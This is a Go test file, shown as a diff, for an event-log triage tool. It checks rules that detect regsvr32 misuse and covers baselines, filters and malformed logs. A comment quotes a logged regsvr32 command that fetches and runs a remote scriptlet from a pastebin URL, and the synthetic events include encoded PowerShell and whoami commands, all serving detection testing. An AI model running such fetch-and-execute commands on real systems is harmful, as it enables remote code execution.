@@ -1,0 +1,449 @@
+package triage
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/evtriage/evtriage/parser"
+	"github.com/evtriage/evtriage/rules"
+)
+
+// Built-in rule ids the issue names.
+const (
+	ruleSeed     = "ce2c44b5-a6ac-412a-afba-9e89326fa972"
+	ruleCARMain  = "e23771a3-d2bc-4535-9b97-ab6769c1a38d"
+	ruleCARChild = "bc399179-15fa-4ca9-a55b-d46b526bf897"
+	ruleCARLoad  = "8537fa9f-c8d8-4530-81bc-1b4db643e582"
+)
+
+var issueRules = map[string]string{ruleSeed: "seed", ruleCARMain: "car-main", ruleCARChild: "car-child", ruleCARLoad: "car-unsigned"}
+
+// builtin loads the built-in pack, failing on rejections.
+func builtin(t testing.TB) *rules.Set {
+	t.Helper()
+	set := rules.Load(rules.LoadOptions{})
+	if rj := set.Rejected(); len(rj) > 0 {
+		t.Fatalf("built-in rules rejected: %v", rj)
+	}
+	return set
+}
+
+// describe renders a finding of one of the issue's rules as
+// "rule file#record [suppressed…]".
+func describe(f *Finding) string {
+	s := fmt.Sprintf("%s %s#%d", issueRules[f.Rule.ID], filepath.Base(f.Event.File), f.Event.Event.RecordID)
+	if len(f.Suppressed) > 0 {
+		sup := append([]string(nil), f.Suppressed...)
+		sort.Strings(sup)
+		s += " suppressed:" + strings.Join(sup, ",")
+	}
+	return s
+}
+
+// TestHuntSharedLogs: what the seed rule and the three CAR rules must
+// report on ../shared/evtx, read off the events with evtxexport -f xml:
+//
+//   - sysmon_regsvr32_sct.evtx #16792: Sysmon 1, Image
+//     C:\Windows\System32\regsvr32.exe, CommandLine "regsvr32.exe  /u /s
+//     /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll", CurrentDirectory
+//     C:\Users\IEUser\. Seed: selection_image and " /s " match, but " /i:"
+//     (and "/u ") hit filter_main_other_flags: suppressed, not reported.
+//   - same file #16793: Sysmon 1, cmd.exe with ParentImage
+//     C:\Windows\System32\regsvr32.exe: CAR main (parent ends in
+//     regsvr32.exe, image is not regsvr32) and CAR children (System32
+//     regsvr32 parent, child not regsvr32/WerFault/wevtutil).
+//   - sysmon_bitsjob_notifycmdline.evtx #17287: regsvr32 "/u /s
+//     /i:https://…calc.sct scrobj.dll" in C:\Windows\system32\: seed hidden
+//     by filter_main_other_flags and filter_main_paths (CurrentDirectory).
+//     Its parent is svchost, and no process has regsvr32 as parent.
+//   - No file has a Sysmon 7 whose Image is regsvr32 (CAR unsigned), the
+//     renamed copy (jabber.exe, no OriginalFileName) matches no image
+//     selection, and the Security logs hold no regsvr32.
+func TestHuntSharedLogs(t *testing.T) {
+	files, _ := filepath.Glob(filepath.Join(sharedDir(t), "evtx", "*.evtx"))
+	h := NewHunter(Options{Rules: builtin(t)})
+	for _, f := range files {
+		if err := h.AddFile(context.Background(), f, nil); err != nil {
+			t.Errorf("%s: %v", f, err)
+		}
+	}
+	res := h.Result()
+	var got []string
+	for _, f := range res.Findings {
+		if issueRules[f.Rule.ID] != "" {
+			got = append(got, describe(f))
+		}
+	}
+	want := []string{
+		"seed sysmon_regsvr32_sct.evtx#16792 suppressed:filter_main_other_flags",
+		"car-main sysmon_regsvr32_sct.evtx#16793",
+		"car-child sysmon_regsvr32_sct.evtx#16793",
+		"seed sysmon_bitsjob_notifycmdline.evtx#17287 suppressed:filter_main_other_flags,filter_main_paths",
+	}
+	sort.Strings(got)
+	sort.Strings(want)
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	// The CAR findings sit on cmd.exe 1912 under regsvr32 1420.
+	for _, f := range res.Written() {
+		if f.Rule.ID != ruleCARMain {
+			continue
+		}
+		var names []string
+		for _, p := range Lineage(f.Process) {
+			names = append(names, fmt.Sprintf("%s(%d)", baseName(p.Image), p.PID))
+		}
+		if got := strings.Join(names, ">"); got != "cmd.exe(3528)>regsvr32.exe(1420)>cmd.exe(1912)" {
+			t.Errorf("lineage %s", got)
+		}
+		if len(f.Match) == 0 {
+			t.Error("no match explanation")
+		}
+	}
+	total := 0
+	for _, s := range res.Sources {
+		total += s.Records
+		if len(s.SHA256) != 64 {
+			t.Errorf("%s: sha256 %q", s.Path, s.SHA256)
+		}
+	}
+	if total != res.Events {
+		t.Errorf("sources hold %d records, result %d events", total, res.Events)
+	}
+}
+
+// TestHuntRenamedRegsvr32 marks the copy of regsvr32 run as jabber.exe.
+func TestHuntRenamedRegsvr32(t *testing.T) {
+	h := NewHunter(Options{Rules: builtin(t)})
+	if err := h.AddFile(context.Background(), filepath.Join(sharedDir(t), "evtx", "sysmon_renamed_regsvr32_scrobj.evtx"), nil); err != nil {
+		t.Fatal(err)
+	}
+	var marked []string
+	for _, p := range h.Result().Processes {
+		if p.Regsvr32 {
+			marked = append(marked, fmt.Sprintf("%s renamed=%v", p.Image, p.Renamed))
+		}
+	}
+	if got := strings.Join(marked, ";"); got != `C:\ProgramData\jabber.exe renamed=true` {
+		t.Errorf("regsvr32 nodes: %s", got)
+	}
+}
+
+// TestHuntDuplicates reads the same log twice: every record is dropped once
+// as a duplicate and nothing is reported twice.
+func TestHuntDuplicates(t *testing.T) {
+	path := filepath.Join(sharedDir(t), "evtx", "sysmon_regsvr32_sct.evtx")
+	once := NewHunter(Options{Rules: builtin(t)})
+	twice := NewHunter(Options{Rules: builtin(t)})
+	ctx := context.Background()
+	if err := once.AddFile(ctx, path, nil); err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"a.evtx", "copy/a.evtx"} {
+		if err := twice.AddReader(ctx, name, bytes.NewReader(data), int64(len(data)), nil); err != nil {
+			t.Fatal(err)
+		}
+	}
+	r1, r2 := once.Result(), twice.Result()
+	if r2.Duplicates != r1.Events || r2.Events != 2*r1.Events {
+		t.Errorf("events %d duplicates %d, want %d and %d", r2.Events, r2.Duplicates, 2*r1.Events, r1.Events)
+	}
+	if len(r2.Findings) != len(r1.Findings) || len(r2.Processes) != len(r1.Processes) {
+		t.Errorf("findings %d processes %d, want %d %d", len(r2.Findings), len(r2.Processes), len(r1.Findings), len(r1.Processes))
+	}
+}
+
+// writeLog writes events to an .evtx file with the project's writer.
+func writeLog(t testing.TB, path string, evs []*parser.Event) {
+	t.Helper()
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := parser.NewWriter(f)
+	for _, e := range evs {
+		if err := w.Write(e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := f.Close(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+const (
+	sys32Reg = `C:\Windows\System32\regsvr32.exe`
+	sys32Cmd = `C:\Windows\System32\cmd.exe`
+	psPath   = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+)
+
+// child makes a Sysmon 1 of a process started by regsvr32 guid pg on day d.
+func child(rec uint64, d, g int, image, cmdline string, pg int) *parser.Event {
+	e := s1("WS1", rec, t0.Add(time.Duration(d)*24*time.Hour), g, 1000+g, image, pg, 1000+pg, sys32Reg)
+	for i := range e.Fields {
+		if e.Fields[i].Name == "CommandLine" {
+			e.Fields[i].Value = cmdline
+		}
+	}
+	return e
+}
+
+// day returns t0 plus d days.
+func day(d int) time.Time { return t0.Add(time.Duration(d) * 24 * time.Hour) }
+
+// month returns two logs: day 1 (regsvr32 → cmd whoami) and day 35
+// (regsvr32 → cmd whoami again, and → powershell -enc).
+func month(t *testing.T) (early, late string) {
+	dir := t.TempDir()
+	early, late = filepath.Join(dir, "early.evtx"), filepath.Join(dir, "late.evtx")
+	writeLog(t, early, []*parser.Event{
+		s1("WS1", 1, day(1), 10, 1010, sys32Reg, 9, 1009, sys32Cmd),
+		child(2, 1, 11, sys32Cmd, "cmd /c whoami", 10),
+	})
+	writeLog(t, late, []*parser.Event{
+		s1("WS1", 3, day(35), 20, 1020, sys32Reg, 9, 1009, sys32Cmd),
+		child(4, 35, 21, sys32Cmd, "CMD /c WHOAMI", 20),
+		child(5, 35, 22, psPath, "powershell -enc AAAA", 20),
+	})
+	return early, late
+}
+
+// verdicts renders CAR-main findings as "record:new|seen|-".
+func verdicts(res *Result) string {
+	var out []string
+	for _, f := range res.Written() {
+		if f.Rule.ID != ruleCARMain {
+			continue
+		}
+		v := "-"
+		if f.New != nil {
+			v = map[bool]string{true: "new", false: "seen"}[*f.New]
+		}
+		out = append(out, fmt.Sprintf("%d:%s", f.Event.Event.RecordID, v))
+	}
+	return strings.Join(out, " ")
+}
+
+func TestBaseline(t *testing.T) {
+	early, late := month(t)
+	set := builtin(t)
+	ctx := context.Background()
+	// An export of the early log, in both formats.
+	eh := NewHunter(Options{Rules: set})
+	if err := eh.AddFile(ctx, early, nil); err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	jsonExport, jsonlExport := filepath.Join(dir, "early.json"), filepath.Join(dir, "early.jsonl")
+	if err := Export(jsonExport, eh.Result(), eh.Result().Written(), FormatJSON); err != nil {
+		t.Fatal(err)
+	}
+	if err := Export(jsonlExport, eh.Result(), eh.Result().Written(), FormatJSONL); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name  string
+		opts  Options
+		files []string
+		want  string
+	}{
+		{"not judged", Options{}, []string{early, late}, "2:- 4:- 5:-"},
+		{"window: first 30 days are the baseline", Options{BaselineWindow: 30 * 24 * time.Hour}, []string{early, late}, "2:- 4:seen 5:new"},
+		{"window covering everything judges nothing", Options{BaselineWindow: 60 * 24 * time.Hour}, []string{early, late}, "2:- 4:- 5:-"},
+		{"window by parent-child", Options{BaselineWindow: 30 * 24 * time.Hour, NewKey: KeyParentChild}, []string{early, late}, "2:- 4:seen 5:new"},
+		{"window by image-loaded: process creations have no key", Options{BaselineWindow: 30 * 24 * time.Hour, NewKey: KeyImageLoaded}, []string{early, late}, "2:- 4:- 5:-"},
+		{"baseline log", Options{Baseline: []string{early}}, []string{late}, "4:seen 5:new"},
+		{"baseline folder", Options{Baseline: []string{filepath.Dir(early)}}, []string{late}, "4:seen 5:seen"},
+		{"baseline json export", Options{Baseline: []string{jsonExport}}, []string{late}, "4:seen 5:new"},
+		{"baseline jsonl export", Options{Baseline: []string{jsonlExport}}, []string{late}, "4:seen 5:new"},
+		{"baseline export by parent-child", Options{Baseline: []string{jsonlExport}, NewKey: KeyParentChild}, []string{late}, "4:seen 5:new"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			tc.opts.Rules = set
+			h := NewHunter(tc.opts)
+			if err := h.LoadBaseline(ctx); err != nil {
+				t.Fatal(err)
+			}
+			for _, f := range tc.files {
+				if err := h.AddFile(ctx, f, nil); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if got := verdicts(h.Result()); got != tc.want {
+				t.Errorf("verdicts %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+func TestBaselineBadInputs(t *testing.T) {
+	dir := t.TempDir()
+	bad := filepath.Join(dir, "bad.json")
+	if err := os.WriteFile(bad, []byte(`{"findings": [{"rule": 3}]}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	empty := filepath.Join(dir, "empty.jsonl")
+	if err := os.WriteFile(empty, nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range []string{bad, empty, filepath.Join(dir, "missing.jsonl"), filepath.Join(dir, "missing-dir")} {
+		h := NewHunter(Options{Baseline: []string{p}})
+		err := h.LoadBaseline(context.Background())
+		if !errors.Is(err, ErrBaseline) {
+			t.Errorf("%s: error %v, want ErrBaseline", filepath.Base(p), err)
+		}
+		if !h.Result().Partial() {
+			t.Errorf("%s: result not partial", filepath.Base(p))
+		}
+	}
+}
+
+func TestFilter(t *testing.T) {
+	early, late := month(t)
+	dir := filepath.Dir(early)
+	// Add a regsvr32 that loads an unsigned DLL and one the seed rule hides.
+	extra := filepath.Join(dir, "extra.evtx")
+	writeLog(t, extra, []*parser.Event{
+		s1("WS2", 1, day(50), 30, 1030, sys32Reg, 9, 1009, sys32Cmd, "CurrentDirectory", `C:\Users\u\`),
+		s7("WS2", 2, day(50).Add(time.Second), 30, 1030, sys32Reg, `C:\Users\u\AppData\x.dll`, "false"),
+	})
+	h := NewHunter(Options{Rules: builtin(t), BaselineWindow: 30 * 24 * time.Hour})
+	for _, f := range []string{early, late, extra} {
+		if err := h.AddFile(context.Background(), f, nil); err != nil {
+			t.Fatal(err)
+		}
+	}
+	res := h.Result()
+	count := func(f Filter) string {
+		var out []string
+		for _, x := range res.Filter(f) {
+			if name := issueRules[x.Rule.ID]; name != "" {
+				out = append(out, fmt.Sprintf("%s#%s%d", name, x.Event.Event.Computer, x.Event.Event.RecordID))
+			}
+		}
+		return strings.Join(out, " ")
+	}
+	all := "car-main#WS12 car-child#WS12 car-main#WS14 car-child#WS14 car-main#WS15 car-child#WS15 car-unsigned#WS22"
+	tests := []struct {
+		name string
+		f    Filter
+		want string
+	}{
+		{"zero filter: as written", Filter{}, all},
+		{"min level medium", Filter{MinLevel: rules.LevelMedium}, "car-child#WS12 car-child#WS14 car-child#WS15 car-unsigned#WS22"},
+		{"rule off", Filter{DisabledRules: map[string]bool{ruleCARChild: true, ruleCARMain: true}}, "car-unsigned#WS22"},
+		{"host", Filter{Host: "ws2"}, "car-unsigned#WS22"},
+		{"new only", Filter{NewOnly: true}, "car-main#WS15 car-child#WS15 car-unsigned#WS22"},
+		{"unsigned only", Filter{UnsignedOnly: true}, "car-unsigned#WS22"},
+		{"security only", Filter{Sources: FromSecurity}, ""},
+		{"time window", Filter{From: day(40), To: day(60)}, "car-unsigned#WS22"},
+		{"time window closed", Filter{From: day(2), To: day(35)}, "car-main#WS14 car-child#WS14 car-main#WS15 car-child#WS15"},
+		{"switching a filter off keeps what it did not hide", Filter{DisabledIdents: map[string]map[string]bool{ruleCARLoad: {"filter_car_paths": true}}}, all},
+	}
+	for _, tc := range tests {
+		if got := count(tc.f); got != tc.want {
+			t.Errorf("%s: %q, want %q", tc.name, got, tc.want)
+		}
+	}
+}
+
+// TestFilterRevealsSuppressed switches the seed rule's filters off on the
+// shared logs: a suppressed candidate shows once all its filters are off.
+func TestFilterRevealsSuppressed(t *testing.T) {
+	shared := sharedDir(t)
+	h := NewHunter(Options{Rules: builtin(t)})
+	for _, f := range []string{"sysmon_regsvr32_sct.evtx", "sysmon_bitsjob_notifycmdline.evtx"} {
+		if err := h.AddFile(context.Background(), filepath.Join(shared, "evtx", f), nil); err != nil {
+			t.Fatal(err)
+		}
+	}
+	res := h.Result()
+	seeds := func(off ...string) string {
+		m := map[string]bool{}
+		for _, o := range off {
+			m[o] = true
+		}
+		var out []string
+		for _, f := range res.Filter(Filter{DisabledIdents: map[string]map[string]bool{ruleSeed: m}}) {
+			if f.Rule.ID == ruleSeed {
+				out = append(out, fmt.Sprint(f.Event.Event.RecordID))
+			}
+		}
+		return strings.Join(out, " ")
+	}
+	tests := []struct {
+		off  []string
+		want string
+	}{
+		{nil, ""},
+		{[]string{"filter_main_other_flags"}, "16792"},
+		{[]string{"filter_main_paths"}, ""},
+		{[]string{"filter_main_other_flags", "filter_main_paths"}, "16792 17287"},
+		{[]string{"filter_main_other_flags", "filter_main_paths", "selection_cmdline"}, ""},
+	}
+	for _, tc := range tests {
+		if got := seeds(tc.off...); got != tc.want {
+			t.Errorf("off %v: %q, want %q", tc.off, got, tc.want)
+		}
+	}
+}
+
+// TestHuntHostileInput: garbage, truncation and an empty file are reported,
+// never fatal.
+func TestHuntHostileInput(t *testing.T) {
+	good, err := os.ReadFile(filepath.Join(sharedDir(t), "evtx", "sysmon_regsvr32_sct.evtx"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name    string
+		data    []byte
+		wantErr error
+	}{
+		{"empty", nil, ErrOpen},
+		{"not evtx", bytes.Repeat([]byte("MZ garbage "), 1000), ErrOpen},
+		{"truncated mid chunk", good[:0x1000+3000], ErrRead},
+	}
+	for _, tc := range tests {
+		h := NewHunter(Options{Rules: builtin(t)})
+		err := h.AddReader(context.Background(), tc.name, bytes.NewReader(tc.data), int64(len(tc.data)), nil)
+		if !errors.Is(err, tc.wantErr) {
+			t.Errorf("%s: error %v, want %v", tc.name, err, tc.wantErr)
+		}
+		res := h.Result()
+		if len(res.Sources) != 1 || len(res.Sources[0].Problems) == 0 || !res.Partial() {
+			t.Errorf("%s: sources %+v", tc.name, res.Sources)
+		}
+	}
+}
+
+func TestProgress(t *testing.T) {
+	var last Progress
+	calls := 0
+	h := NewHunter(Options{})
+	path := filepath.Join(sharedDir(t), "evtx", "sysmon_uacme_64.evtx")
+	if err := h.AddFile(context.Background(), path, func(p Progress) { last = p; calls++ }); err != nil {
+		t.Fatal(err)
+	}
+	fi, _ := os.Stat(path)
+	if !last.Done || last.Total != fi.Size() || last.Events != h.Result().Events || calls == 0 {
+		t.Errorf("last progress %+v after %d calls", last, calls)
+	}
+}
